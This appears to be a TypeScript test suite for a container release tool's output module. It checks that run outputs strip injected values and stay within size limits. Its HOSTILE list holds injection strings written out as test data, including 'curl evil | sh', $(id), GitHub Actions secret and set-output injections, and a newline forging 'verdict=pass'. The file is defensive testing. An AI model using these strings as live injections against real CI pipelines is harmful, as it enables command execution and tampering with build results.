import { OUTPUTS, recordOutputs } from '../../src/outputs.js'
import type { RunRecord } from '../../src/record/record.js'
import { ENDINGS } from '../support/record-endings.js'
import { IMAGE, aRecord, aRelease, aSubject, digestOf } from '../support/records.js'

const HOSTILE = [
  '"; curl evil | sh; "',
  "'); process.exit(0)//",
  '$(id)',
  '`id`',
  '${{ secrets.X }}',
  'a\nverdict=pass',
  'a<<EOF',
  '::set-output name=a::b',
  '<script>',
  '\u202e',
]

function everywhere(text: string): RunRecord {
  const sound = aRecord()
  return aRecord({
    request: { ...sound.request, image: text, tags: [text] },
    reason: text,
    subject: { ...aSubject('linux/amd64', text), name: text },
    warnings: [text],
    files: ['sbom-spdx', 'sbom-cyclonedx', 'bundle'].map(kind => {
      return { path: text, kind, sha256: '1'.repeat(64), size: 1 }
    }),
    release: aRelease({ tags: [{ tag: text, state: 'created' }], reference: text, signer: text }),
  })
}

describe('outputs', () => {
  it.each(Object.entries(ENDINGS))('of %s are all there, in order', (_, record) => {
    expect(Object.keys(recordOutputs(record, '/r'))).toEqual(Object.keys(OUTPUTS))
  })

  it.each(HOSTILE)('never hand out %j', text => {
    const clean = { ...everywhere('zzz'), subject: aSubject('linux/amd64') }
    const given = recordOutputs(everywhere(text), '/r')
    for (const [name, value] of Object.entries(given)) {
      expect(`${name} ${value}`).not.toContain(text)
      expect(`${name} ${value}`).not.toContain(JSON.stringify(text).slice(1, -1))
    }
    expect(given['reason']).toBe('unforeseen')
    expect(given['image-ref']).toBe('')
    expect(given['platforms']).toBe('["linux/amd64"]')
    expect(given['tags']).toBe('[]')
    expect(given['digest']).toBe(recordOutputs(clean, '/r')['digest'])
  })

  it.each(['a\nb', 'a\u001b[31m', 'a\u2028b', 'a\u202eb'])('never hand out the command %j', verifyCommand => {
    const record = aRecord({ release: aRelease({ verifyCommand }) })
    expect(recordOutputs(record, '/r')['verify-command']).toBe('')
  })

  it('of a release', () => {
    const record = ENDINGS['released'] ?? aRecord()
    expect(recordOutputs(record, '/srv/report')).toMatchObject({
      verdict: 'pass',
      reason: 'clean',
      digest: digestOf('a'),
      'image-ref': `${IMAGE}@${digestOf('a')}`,
      'image-id': digestOf('b'),
      platforms: '["linux/amd64","linux/arm64"]',
      tags: '["1.0.0"]',
      violations: '0',
      record: '/srv/report/portcullis.json',
      'report-dir': '/srv/report',
      'sbom-spdx': '["/srv/report/sbom.spdx.json"]',
      'sbom-cyclonedx': '[]',
      'verify-command': `cosign verify --key cosign.pub --insecure-ignore-tlog ${IMAGE}@${digestOf('a')}`,
    })
  })

  it('of a refusal name no pushed image and count violations, not changes', () => {
    const given = recordOutputs(ENDINGS['fail'] ?? aRecord(), '/r')
    expect(given).toMatchObject({ verdict: 'fail', 'image-ref': '', tags: '[]', violations: '5', high: '5' })
    expect(given['exceptions']).toBe('1')
  })

  it.each(['failed', 'refused', 'not-wanted'] as const)(
    'name no pushed image when the release is: %s',
    state => {
      const record = aRecord({ release: aRelease({ state }) })
      expect(recordOutputs(record, '/r')['image-ref']).toBe('')
    },
  )

  it('stay below what the runner takes', () => {
    const files = Array.from({ length: 50_000 }, (_, at) => {
      return { path: `bundles/${at}.json`, kind: 'bundle', sha256: '1'.repeat(64), size: 1 }
    })
    const list = recordOutputs(aRecord({ files }), '/r')['bundles'] ?? ''
    expect(list.length).toBeLessThan(1_000_000)
    expect(JSON.parse(list)).toContain('/r/bundles/0.json')
  })
})
